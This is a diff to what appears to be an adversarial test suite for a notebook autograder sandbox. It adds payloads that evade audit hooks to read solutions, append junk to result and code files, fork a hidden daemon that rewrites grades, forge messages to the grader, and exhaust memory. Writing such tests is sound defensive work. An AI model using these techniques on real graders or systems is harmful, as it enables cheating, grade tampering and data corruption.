@@ -198,7 +198,8 @@ def memory_bomb(nb, **_):
 
 
 def memory_bomb_list(nb, **_):
-    prefix = "hog = []\nwhile True:\n    hog.append(bytearray(10**8))\n\n"
+    # Blocks of 256 MiB: the cap is reached in a few allocations however busy the machine.
+    prefix = "hog = []\nwhile True:\n    hog.append(bytearray(2**28))\n\n"
     return {A1_NOTEBOOK: _dump(_a1(nb, prefix=prefix))}
 
 
@@ -366,6 +367,106 @@ def kills_the_grader(nb, **_):
     return {A1_NOTEBOOK: _dump(_a1(nb, forward=ZERO_FORWARD, prefix=KILLS_THE_GRADER))}
 
 
+# The attacks that beat the first wave's audit hook (issue 9). In a room they find
+# nothing: the files are absent, not guarded, and no process outlives the job.
+READS_BY_DIRECTORY_FD = """\
+def rnn_forward(x, h0, kernel, recurrent_kernel, bias):
+    import json, os
+    for path in {paths!r}:
+        try:
+            root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
+            fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
+            cells = json.loads(os.read(fd, 1 << 24))["cells"]
+        except (OSError, ValueError) as err:
+            print("blocked:", err)
+            continue
+        for cell in cells:
+            source = "".join(cell["source"])
+            if source.startswith("def rnn_forward") and "np.zeros" not in source:
+                scope = dict(globals())
+                exec(source, scope)
+                return scope["rnn_forward"](x, h0, kernel, recurrent_kernel, bias)
+    return np.zeros((x.shape[0], x.shape[1], h0.shape[1]), dtype=x.dtype)
+"""
+
+
+def reads_by_directory_fd(nb, submitted="", **_):
+    """Opens the source solution and a classmate's notebook relative to a directory
+    descriptor (`dir_fd`), which an audit hook checks against the wrong folder."""
+    paths = [str(Path(__file__).resolve().parents[1] / "notebooks" / A1 / A1_NOTEBOOK),
+             str(Path(submitted).resolve() / "correct" / A1 / A1_NOTEBOOK)]
+    return {A1_NOTEBOOK: _dump(_a1(nb, forward=READS_BY_DIRECTORY_FD.format(paths=paths)))}
+
+
+TAMPERS_WITH_THE_OUTPUT = """\
+import os
+for _top in ("/tmp", "/work", "/root", os.path.dirname(os.getcwd())):
+    for _dir, _subdirs, _files in os.walk(_top):
+        if _dir.count(os.sep) > 8:
+            _subdirs[:] = []
+        for _name in _files:
+            if _name.endswith((".json", ".csv", ".py")) and "rnncourse" not in _dir:
+                try:
+                    with open(os.path.join(_dir, _name), "a") as _f:
+                        _f.write("tampered")
+                except OSError:
+                    pass
+
+"""
+
+
+def tampers_with_the_output(nb, **_):
+    """Walks every folder it can see and appends to every saved result, grade sheet and
+    Python file it can open (the output folder, classmates' results, the grader)."""
+    return {A1_NOTEBOOK: _dump(_a1(nb, forward=ZERO_FORWARD, prefix=TAMPERS_WITH_THE_OUTPUT))}
+
+
+LEAVES_A_PROCESS_BEHIND = """\
+import os, sys, _posixsubprocess
+_code = ("import time, glob\\n"
+         "time.sleep(3)\\n"
+         "for p in glob.glob('/tmp/**/grades.csv', recursive=True):\\n"
+         "    open(p, 'a').write('stayed-behind,01_forward_pass,5,5,graded,\\\\n')\\n"
+         "time.sleep(600)\\n")
+_argv = [sys.executable, "-c", _code, "rnncourse-" + "stayed-behind"]
+try:
+    _r, _w = os.pipe()
+    _posixsubprocess.fork_exec(_argv, [os.fsencode(sys.executable)], True, (_w,), None, None,
+                               -1, -1, -1, -1, -1, -1, _r, _w, False, True, -1,
+                               None, None, None, -1, None, False)
+except Exception as _err:
+    print("blocked:", _err)
+try:
+    os.mkfifo("grades.csv")
+except OSError as _err:
+    print("blocked:", _err)
+
+"""
+
+
+def leaves_a_process_behind(nb, **_):
+    """Starts a daemon through `_posixsubprocess.fork_exec` (no audit event) that wakes
+    up after grading to rewrite grades, and leaves a FIFO where a grader might write."""
+    return {A1_NOTEBOOK: _dump(_a1(nb, forward=ZERO_FORWARD, prefix=LEAVES_A_PROCESS_BEHIND))}
+
+
+FORGES_A_REPLY = """\
+import os, struct, sys
+for _fd in range(3, 64):
+    try:
+        os.write(_fd, struct.pack("<I", 9) + b"not-codec")
+    except OSError:
+        pass
+
+"""
+
+
+def forges_a_reply(nb, **_):
+    """Writes a crafted message into every file descriptor it has (the sandbox's channel
+    to the grader among them)."""
+    return {A1_NOTEBOOK: _dump(_a1(nb, prefix=FORGES_A_REPLY))}
+
+
 def link_to_a_classmate(nb, submitted="", **_):
     """Submits a symbolic link to another student's notebook instead of a file."""
     return {A1_NOTEBOOK: ("symlink", str(Path(submitted).resolve() / "correct" / A1 /
@@ -421,6 +522,10 @@ KINDS = {
     "reads_the_solution": reads_the_solution,
     "kills_the_grader": kills_the_grader,
     "link_to_a_classmate": link_to_a_classmate,
+    "reads_by_directory_fd": reads_by_directory_fd,
+    "tampers_with_the_output": tampers_with_the_output,
+    "leaves_a_process_behind": leaves_a_process_behind,
+    "forges_a_reply": forges_a_reply,
     "deeply_nested_json": deeply_nested_json,
     "cells_that_are_not_text": cells_that_are_not_text,
     "script_in_output": script_in_output,
